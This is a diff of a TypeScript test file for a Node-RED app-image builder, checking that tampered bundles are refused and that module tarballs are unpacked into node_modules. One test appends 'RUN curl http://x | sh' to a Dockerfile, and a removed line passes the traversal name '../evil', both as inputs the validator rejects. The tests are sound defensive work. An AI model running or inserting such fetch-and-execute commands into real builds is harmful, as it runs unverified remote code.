@@ -1,13 +1,12 @@
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
-import os from 'node:os';
 import path from 'node:path';
 import { test } from 'node:test';
 import { compile } from '../compile';
 import { DataboxError } from '../../core/errors';
 import { appContext } from './app.context';
 import { appImageLabels, appImageTag } from './image.labels';
-import { packageNameOf } from './app.modules';
+import { moduleBundle } from '../../test/support/built-bundle';
 
 const flows = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'runtime', 'fixtures', 'page-demo.flows.json'), 'utf8'));
 const bundle = compile(flows, 'demo-tab');
@@ -22,31 +21,27 @@ test('a compiled bundle becomes the four files of its context, serialized as the
   assert.deepEqual(JSON.parse(flowsEntry.content.toString()), bundle.flows);
 });
 
-test('a bundle the validator refuses (manifest, Dockerfile) and unsafe module names are refused', () => {
+test('a bundle the validator refuses (manifest, Dockerfile, a module tarball) is refused', async () => {
   assert.throws(() => appContext({ ...bundle, manifest: { ...bundle.manifest, name: 'Not A Name' } }), (e: unknown) => e instanceof DataboxError && e.code === 'manifest-invalid');
   assert.throws(() => appContext({ ...bundle, dockerfile: `${bundle.dockerfile}RUN curl http://x | sh\n` }), (e: unknown) => e instanceof DataboxError && e.code === 'bundle-invalid' && /Dockerfile is not the one/.test(e.message));
-  assert.throws(() => appContext({ ...bundle, modules: [{ module: '../evil', dir: '/tmp' }] }), (e: unknown) => e instanceof DataboxError && e.code === 'image-module-name');
+  const withModules = await moduleBundle();
+  const swapped = (withModules.modules ?? []).map((m, i, all) => ({ ...m, data: all[(i + 1) % all.length]?.data ?? m.data }));
+  assert.throws(() => appContext({ ...withModules, modules: swapped }), (e: unknown) => e instanceof DataboxError && e.code === 'bundle-module-integrity');
 });
 
-test('third-party modules are staged whole, with their dependencies beside them', () => {
-  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'mods-'));
-  try {
-    const write = (rel: string, text: string) => { fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true }); fs.writeFileSync(path.join(root, rel), text); };
-    write('node_modules/node-red-contrib-x/package.json', '{"name":"node-red-contrib-x","dependencies":{"dep":"1"}}');
-    write('node_modules/node-red-contrib-x/x.js', 'module.exports = () => {}');
-    write('node_modules/node-red-contrib-x/node_modules/inner/package.json', '{"name":"inner"}');
-    write('node_modules/dep/package.json', '{"name":"dep"}');
-    write('node_modules/dep/index.js', '');
-    write('node_modules/unrelated/package.json', '{"name":"unrelated"}');
-    const { entries } = appContext({ ...bundle, modules: [{ module: 'node-red-contrib-x', dir: path.join(root, 'node_modules', 'node-red-contrib-x') }] });
-    assert.deepEqual(entries.slice(4).map((e) => e.name), [
-      'node_modules/dep/index.js', 'node_modules/dep/package.json',
-      'node_modules/node-red-contrib-x/node_modules/inner/package.json', 'node_modules/node-red-contrib-x/package.json', 'node_modules/node-red-contrib-x/x.js',
-    ]);
-  } finally {
-    fs.rmSync(root, { recursive: true, force: true });
-  }
-  assert.equal(packageNameOf('/a/node_modules/@scope/pkg'), '@scope/pkg');
+test('third-party modules come from the bundle\'s tarballs into node_modules/<name>/, with no folder on disk', async () => {
+  const withModules = await moduleBundle();
+  const { entries } = appContext(withModules);
+  assert.deepEqual(entries.slice(0, 4).map((e) => e.name), ['databox-manifest.json', 'Dockerfile', 'flows.json', 'package.json']);
+  assert.deepEqual(entries.slice(4).map((e) => `${e.name} ${e.mode.toString(8)}`), [
+    'node_modules/fixture-helper/index.js 644', 'node_modules/fixture-helper/package.json 644',
+    'node_modules/node-red-contrib-databox-fixture/package.json 644', 'node_modules/node-red-contrib-databox-fixture/ping.js 644',
+    'node_modules/node-red-contrib-databox-fixture/upper.html 644', 'node_modules/node-red-contrib-databox-fixture/upper.js 644',
+  ]);
+  const upper = entries.find((e) => e.name === 'node_modules/node-red-contrib-databox-fixture/upper.js');
+  assert.ok(upper && 'content' in upper);
+  assert.deepEqual(upper.content, fs.readFileSync(path.join(__dirname, '..', 'fixtures', '_modules', 'node-red-contrib-databox-fixture', 'upper.js')));
+  assert.ok(!entries.some((e) => e.name.startsWith('modules/')), 'the tarballs themselves stay out of the image');
 });
 
 test('labels and tag follow decision 0004', () => {
